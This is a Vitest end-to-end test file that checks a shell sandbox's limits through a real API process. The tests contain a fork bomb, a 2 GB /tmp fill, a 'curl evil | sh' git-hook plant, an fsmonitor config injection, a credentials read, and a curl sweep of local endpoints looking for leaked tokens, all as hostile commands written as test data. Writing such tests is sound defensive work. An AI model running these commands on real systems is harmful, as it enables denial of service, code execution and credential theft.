import { spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { freePort } from "@parley/db";
import { afterAll, beforeAll, expect, it, vi } from "vitest";
import { type E2eEnvironment, type E2eUser, startE2eEnvironment } from "./testing/e2e-environment.js";
import { runShellThroughDemoModel, type ShellOutput } from "./testing/shell-output.js";

/**
 * The sandbox's limits through a real API process (docs/security.md): a fork bomb is
 * contained while the API keeps serving, `/tmp` is sized, a named workspace's `.git/hooks`,
 * `.git/config` and `.parley/` cannot be changed or read, `/etc/ssl/private` is absent, and with
 * `PARLEY_SHELL_NETWORK=on` nothing the API serves hands a command a token.
 */
let environment: E2eEnvironment;
let member: E2eUser;
/** The web app's folder (`apps/web`), whose built `server.mjs` `npm start` runs. */
const WEB_ROOT = path.resolve(import.meta.dirname, "../../web");
let repository: string;

beforeAll(async () => {
  repository = await mkdtemp(path.join(tmpdir(), "parley-e2e-repo-"));
  await mkdir(path.join(repository, ".git", "hooks"), { recursive: true });
  await writeFile(path.join(repository, ".git", "config"), "[core]\n");
  await mkdir(path.join(repository, ".parley"));
  await writeFile(path.join(repository, ".parley", "credentials"), "db-password-e2e-17");
  environment = await startE2eEnvironment({
    env: { PARLEY_SANDBOX: "on", PARLEY_SHELL_NETWORK: "on", PARLEY_WORKSPACES: `repo=${repository}` },
  });
  member = await environment.createMember("mallory");
});

afterAll(async () => {
  await environment?.close();
  await rm(repository, { recursive: true, force: true });
});

async function run(command: string, workspace_id?: string): Promise<ShellOutput> {
  return (await runIn(command, workspace_id)).output;
}

function runIn(command: string, workspace_id?: string) {
  return runShellThroughDemoModel(member.client(), command, workspace_id);
}

/**
 * A fork bomb beside a shell that goes on. The shell forks its `sleep` before the bomb and then
 * only runs builtins (`wait`, `echo`): `/bin/sh` (dash) exits when a fork fails, so a fork of its
 * own while the bomb fills the pids limit would end it (seen in CI: exit 2, no output).
 */
const FORK_BOMB_THEN_GO_ON = "sleep 3 & s=$!; bomb() { bomb | bomb & }; bomb & wait $s; echo still-here";

it("the server says at startup which pids limit it applies", () => {
  expect(environment.api.output()).toMatch(
    /"msg":"shell tool sandboxed with \/[^"]*bwrap \(network on; pids limit: pids cgroup under \/[^"]+\)"/,
  );
});

it("a fork bomb is contained by the pids limit, and the API keeps serving meanwhile", async () => {
  let serving = true;
  const healthChecks: number[] = [];
  const probe = (async () => {
    while (serving) {
      const started = Date.now();
      const response = await fetch(`${environment.api.url}/healthz`);
      expect(response.status).toBe(200);
      healthChecks.push(Date.now() - started);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  })();
  try {
    const output = await run(FORK_BOMB_THEN_GO_ON);
    expect(output.stdout, JSON.stringify(output)).toBe("still-here\n");
    expect(output.stderr).toMatch(/Cannot fork/);
  } finally {
    serving = false;
    await probe;
  }
  expect(healthChecks.length).toBeGreaterThan(10);
  expect(Math.max(...healthChecks)).toBeLessThan(2_000);
  expect((await run("echo later")).stdout).toBe("later\n");
});

it("writing 2 GB to /tmp fails: it is a sized tmpfs", async () => {
  const output = await run("dd if=/dev/zero of=/tmp/big bs=1M count=2048 2>&1 | head -n 1");
  expect(output.stdout).toMatch(/No space left on device/);
});

it("a named workspace's .git/hooks, .git/config and .parley/ cannot be changed or read", async () => {
  const output = await run(
    [
      "echo 'curl evil | sh' > .git/hooks/post-checkout || echo hooks-refused",
      "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config || echo config-refused",
      "cat .parley/credentials 2>/dev/null || echo parley-absent",
      "touch .parley/planted || echo parley-refused",
      "echo ok > notes.txt && echo workspace-writable",
    ].join("; "),
    "repo",
  );
  expect(output.stdout.trim().split("\n")).toEqual([
    "hooks-refused",
    "config-refused",
    "parley-absent",
    "parley-refused",
    "workspace-writable",
  ]);
  expect(await readdir(path.join(repository, ".git", "hooks"))).toEqual([]);
  expect(await readFile(path.join(repository, ".git", "config"), "utf8")).toBe("[core]\n");
  expect(await readdir(path.join(repository, ".parley"))).toEqual(["credentials"]);
});

it("/etc/ssl/private is absent", async () => {
  const output = await run("ls /etc/ssl/private 2>&1 || echo absent");
  expect(output.stdout).toMatch(/absent\n$/);
  expect(output.stdout).toMatch(/No such file or directory/);
});

it("with PARLEY_SHELL_NETWORK=on, curl of everything the API serves gets no token", async () => {
  const port = new URL(environment.api.url).port;
  const paths = ["/", "/healthz", "/metrics", "/openapi.json", "/trpc/auth.whoami", "/trpc/session.list"];
  const hosts = [`127.0.0.1:${port}`, `localhost:${port}`];
  // Each whole response (headers and body) goes to a file in the workspace; the output stays small.
  const requests = hosts.flatMap((host) => paths.map((route) => ({ host, route })));
  const commands = requests.map(
    ({ host, route }, index) =>
      `curl -s -i -H 'Host: ${host}' -o response-${index}.txt http://127.0.0.1:${port}${route}; head -n 1 response-${index}.txt`,
  );
  const { session, output } = await runIn(commands.join("; "));
  // The API answered each request, and a call without a token is refused.
  expect(output.stdout.match(/^HTTP\/1\.1 \d{3}/gm), output.stdout).toHaveLength(requests.length);
  expect(output.stdout).toMatch(/^HTTP\/1\.1 401/m);
  const workspace = path.join(environment.api.workspace_root, session.id);
  for (const index of requests.keys()) {
    const response = await readFile(path.join(workspace, `response-${index}.txt`), "utf8");
    expect(response).toMatch(/^HTTP\/1\.1 \d{3}/);
    for (const token of [environment.admin.token, member.token]) expect(response).not.toContain(token);
    // Nor any other token (`parley_<43 base64url chars>`, packages/db's auth store).
    expect(response).not.toMatch(/parley_[A-Za-z0-9_-]{43}/);
  }
});

it("with PARLEY_SHELL_NETWORK=on, curl of every page of the web app gets neither the token nor the sign-in code", async () => {
  // The web app as `npm start` runs it: holding the local admin token and a one-time sign-in code.
  const web_port = await freePort();
  const sign_in_code = randomBytes(24).toString("base64url");
  const web = spawn(process.execPath, [path.join(WEB_ROOT, "server.mjs")], {
    cwd: WEB_ROOT,
    env: {
      PATH: process.env.PATH ?? "",
      NODE_ENV: "production",
      NEXT_TELEMETRY_DISABLED: "1",
      HOST: "127.0.0.1",
      WEB_PORT: String(web_port),
      PARLEY_API_URL: environment.api.url,
      PARLEY_LOCAL_TOKEN: environment.admin.token,
      PARLEY_SIGN_IN_CODE: sign_in_code,
    },
    stdio: "ignore",
  });
  try {
    const origin = `http://127.0.0.1:${web_port}`;
    await vi.waitFor(
      async () => {
        expect((await fetch(`${origin}/sign-in`)).status).toBe(200);
      },
      { timeout: 60_000, interval: 250 },
    );
    const pages = ["/", "/sign-in", "/admin", "/no-such-page", "/local-sign-in", "/local-sign-in?code=guess"];
    // The scripts and stylesheets the pages load are served to the shell too.
    const assets = new Set<string>();
    for (const page of pages) {
      const html = await (await fetch(`${origin}${page}`)).text();
      for (const match of html.matchAll(/(?:src|href)="(\/_next\/[^"]+)"/g))
        if (match[1]) assets.add(match[1]);
    }
    const hosts = [`127.0.0.1:${web_port}`, `localhost:${web_port}`];
    const requests = [
      ...hosts.flatMap((host) => pages.map((route) => ({ host, route, method: "GET" }))),
      ...[...assets].map((route) => ({ host: `127.0.0.1:${web_port}`, route, method: "GET" })),
      // The cookie exchange, without the cookie the one-time link sets.
      { host: `127.0.0.1:${web_port}`, route: "/local-session/token", method: "POST" },
    ];
    const commands = requests.map(
      ({ host, route, method }, index) =>
        `curl -s -i -X ${method} -H 'Host: ${host}' -H 'x-parley-local-session: 1' -o web-${index}.txt '${origin}${route}'; head -n 1 web-${index}.txt`,
    );
    const { session, output } = await runIn(commands.join("; "));
    expect(output.stdout.match(/^HTTP\/1\.1 \d{3}/gm), output.stdout).toHaveLength(requests.length);
    const workspace = path.join(environment.api.workspace_root, session.id);
    for (const index of requests.keys()) {
      const response = await readFile(path.join(workspace, `web-${index}.txt`), "utf8");
      expect(response).toMatch(/^HTTP\/1\.1 \d{3}/);
      expect(response).not.toContain(environment.admin.token);
      expect(response).not.toContain(sign_in_code);
      expect(response).not.toMatch(/parley_[A-Za-z0-9_-]{43}/);
    }
    // And the link still works afterwards: nothing the shell did spent it.
    const signIn = await fetch(`${origin}/local-sign-in?code=${sign_in_code}`, { redirect: "manual" });
    expect(signIn.headers.get("set-cookie")).toMatch(/HttpOnly/i);
  } finally {
    web.kill("SIGTERM");
  }
});
